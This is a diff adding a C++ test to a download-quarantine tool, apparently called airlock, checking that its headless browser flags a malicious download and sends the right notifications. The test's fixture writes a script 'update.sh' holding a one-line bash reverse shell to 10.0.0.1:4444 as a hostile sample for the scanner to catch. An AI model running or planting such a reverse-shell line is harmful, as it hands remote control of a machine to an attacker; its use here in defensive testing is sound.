@@ -317,6 +317,53 @@ TEST_F(Notify, TheOwnerIsToldOfARefusedRunAndOfAMaliciousFile) {
   EXPECT_EQ(Received().size(), size_t{3}) << Dump();
 }
 
+// `airlock browser` tells each download's verdict on the same kind of bus (src/browser/download_notice.h):
+// a page that downloads a clean PDF (released) and a reverse-shell script (held as malicious), the
+// browser run as the bus's user. The control: --notify off tells nobody.
+TEST_F(Notify, TheBrowserTellsEachDownloadsVerdict) {
+  if (::access("/usr/bin/chromium", X_OK) != 0) GTEST_SKIP() << "SKIPPED: Debian package chromium is not installed";
+  const std::string site = dir_ + "/site", home = dir_ + "/home";
+  fs::create_directories(site);
+  airlock::test::WriteFile(site + "/report.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
+  airlock::test::WriteFile(site + "/update.sh", "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
+  airlock::test::WriteFile(site + "/page.html",
+                           "<html><body><a id=a href='report.pdf' download='report.pdf'>a</a><a id=b href='update.sh' download='update.sh'>b</a>"
+                           "<script>document.getElementById('a').click();setTimeout(function(){document.getElementById('b').click();},300);"
+                           "</script></body></html>");
+  const int port = airlock::test::FreeLoopbackPort();
+  pid_t http = airlock::test::SpawnLogged({"/usr/bin/python3", "-m", "http.server", "--bind", "127.0.0.1", "--directory", site,
+                                           std::to_string(port)}, dir_ + "/http.log");
+  ASSERT_TRUE(WaitUntil([&] { return airlock::test::ReadFileOrEmpty(dir_ + "/http.log").find("Serving HTTP") != std::string::npos; }, 20));
+  auto browse = [&](const std::string& notify, const std::string& tag) {
+    const std::string h = home + tag, as_user = std::to_string(kUser);
+    fs::create_directories(h);
+    EXPECT_EQ(::chown(h.c_str(), kUser, kUser), 0);
+    return airlock::test::Run({kSetpriv, "--reuid=" + as_user, "--regid=" + as_user, "--clear-groups", "--", "/usr/bin/env", "-i",
+                               "HOME=" + h, "PATH=/usr/bin:/bin", std::string("AIRLOCK_BIN=") + AIRLOCK_TEST_BIN, AIRLOCK_TEST_BIN,
+                               "browser", "--headless", "--until-settled", "--net", "host", "--timeout", "120", "--notify", notify,
+                               "--notify-bus-dir", bus_dir_, "--quarantine", h + "/q", "--downloads", h + "/Downloads",
+                               "http://127.0.0.1:" + std::to_string(port) + "/page.html"}, "", 200);
+  };
+  airlock::test::RunResult off = browse("off", "-off");
+  EXPECT_NE(off.err.find("'update.sh' is MALICIOUS"), std::string::npos) << off.err;
+  EXPECT_TRUE(Received().empty()) << "--notify off told: " << Dump();
+  airlock::test::RunResult r = browse("on", "-on");
+  StopProcess(http);
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  auto clean = WaitNotification("report.pdf", "x-airlock.download", 30);
+  ASSERT_TRUE(clean) << Dump() << r.err;
+  EXPECT_EQ((*clean)["sender_uid"], kUser);
+  EXPECT_EQ((*clean)["urgency"], 1);
+  EXPECT_NE((*clean)["summary"].get<std::string>().find("is clean"), std::string::npos) << clean->dump();
+  EXPECT_NE((*clean)["body"].get<std::string>().find(home + "-on/Downloads/report.pdf"), std::string::npos) << clean->dump();
+  auto bad = WaitNotification("update.sh", "x-airlock.download", 30);
+  ASSERT_TRUE(bad) << Dump() << r.err;
+  EXPECT_EQ((*bad)["urgency"], 2) << "critical";
+  EXPECT_NE((*bad)["summary"].get<std::string>().find("is malicious"), std::string::npos) << bad->dump();
+  EXPECT_NE((*bad)["body"].get<std::string>().find("airlock downloads delete "), std::string::npos) << bad->dump();
+  EXPECT_EQ(Received().size(), size_t{2}) << Dump();
+}
+
 // The control: with --notify off the same events tell nobody.
 TEST_F(Notify, OffTellsNobody) {
   const std::string evil = dir_ + "/dl/evil.sh";
